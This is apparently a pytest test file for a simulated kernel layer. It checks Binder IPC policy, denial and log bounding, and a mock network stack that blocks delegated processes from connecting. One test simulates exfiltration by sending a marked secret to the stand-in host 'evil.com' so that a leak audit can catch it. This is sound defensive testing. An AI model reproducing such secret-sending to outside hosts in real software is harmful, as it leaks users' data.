"""Binder transport and network stack tests (the kernel-level guards)."""

import pytest

from repro.errors import FileNotFound, IpcDenied, NetworkUnreachable, ProviderNotFound
from repro.kernel.binder import _LOG_SIZE, BinderDriver
from repro.kernel.mounts import MountNamespace
from repro.kernel.network import NetworkStack
from repro.kernel.proc import Process, TaskContext
from repro.kernel.vfs import Credentials, Filesystem


def make_process(app="com.a", initiator=None, uid=1001):
    return Process(
        cred=Credentials(uid=uid),
        namespace=MountNamespace(Filesystem()),
        context=TaskContext(app=app, initiator=initiator),
    )


class TestBinder:
    def test_transact_reaches_handler(self):
        driver = BinderDriver()
        driver.register("echo", lambda txn: ("reply", txn.payload), is_system=True)
        reply = driver.transact(make_process(), "echo", "ping", {"x": 1})
        assert reply == ("reply", {"x": 1})

    def test_unknown_endpoint_raises(self):
        driver = BinderDriver()
        with pytest.raises(ProviderNotFound):
            driver.transact(make_process(), "ghost", "code")

    def test_policy_denies(self):
        driver = BinderDriver()
        driver.register("svc", lambda txn: "ok", owner="com.b")
        driver.install_policy(lambda sender, endpoint: False)
        with pytest.raises(IpcDenied):
            driver.transact(make_process(), "svc", "code")
        assert len(driver.denied_log) == 1

    def test_policy_sees_sender_context(self):
        driver = BinderDriver()
        driver.register("svc", lambda txn: "ok", owner="com.b")
        seen = []
        driver.install_policy(lambda sender, endpoint: seen.append(sender) or True)
        driver.transact(make_process(app="com.x", initiator="com.y"), "svc", "c")
        assert seen[0].app == "com.x"
        assert seen[0].initiator == "com.y"

    def test_transaction_log(self):
        driver = BinderDriver()
        driver.register("svc", lambda txn: None, is_system=True)
        driver.transact(make_process(), "svc", "a")
        driver.transact(make_process(), "svc", "b")
        assert [t.code for t in driver.transaction_log] == ["a", "b"]

    def test_logs_keep_only_recent_transactions(self):
        driver = BinderDriver()
        driver.register("svc", lambda txn: None, owner="com.b")
        allowed = [True]
        driver.install_policy(lambda sender, endpoint: allowed[0])
        for index in range(_LOG_SIZE + 5):
            driver.transact(make_process(), "svc", str(index))
        assert len(driver.transaction_log) == _LOG_SIZE
        assert driver.transaction_log[0].code == "5"
        assert driver.transaction_log[-1].code == str(_LOG_SIZE + 4)
        allowed[0] = False
        for _ in range(_LOG_SIZE + 1):
            with pytest.raises(IpcDenied):
                driver.transact(make_process(), "svc", "denied")
        assert len(driver.denied_log) == _LOG_SIZE

    def test_unregister(self):
        driver = BinderDriver()
        driver.register("svc", lambda txn: None)
        driver.unregister("svc")
        with pytest.raises(ProviderNotFound):
            driver.endpoint("svc")


class TestNetwork:
    def test_initiator_fetches(self):
        stack = NetworkStack()
        stack.publish("example.com", "page", b"content")
        socket = stack.connect(make_process(), "example.com")
        assert socket.fetch("page") == b"content"

    def test_delegate_gets_enetunreach(self):
        stack = NetworkStack()
        stack.publish("example.com", "page", b"content")
        with pytest.raises(NetworkUnreachable):
            stack.connect(make_process(initiator="com.init"), "example.com")

    def test_denied_attempts_logged(self):
        stack = NetworkStack()
        stack.add_host("example.com")
        with pytest.raises(NetworkUnreachable):
            stack.connect(make_process(initiator="com.init"), "example.com")
        assert len(stack.denied_attempts()) == 1
        assert stack.denied_attempts()[0].context == "com.a^com.init"

    def test_unknown_host(self):
        stack = NetworkStack()
        with pytest.raises(FileNotFound):
            stack.connect(make_process(), "nowhere.invalid")

    def test_egress_recorded_for_leak_audit(self):
        stack = NetworkStack()
        stack.add_host("evil.com")
        socket = stack.connect(make_process(), "evil.com")
        socket.send(b"...THE-SECRET...")
        assert stack.leaked_to_network(b"THE-SECRET")
        assert not stack.leaked_to_network(b"OTHER")

    def test_missing_resource(self):
        stack = NetworkStack()
        stack.add_host("example.com")
        socket = stack.connect(make_process(), "example.com")
        with pytest.raises(FileNotFound):
            socket.fetch("missing")

    def test_self_initiator_is_not_delegate_for_network(self):
        stack = NetworkStack()
        stack.add_host("example.com")
        process = make_process(app="com.a", initiator="com.a")
        assert stack.connect(process, "example.com")
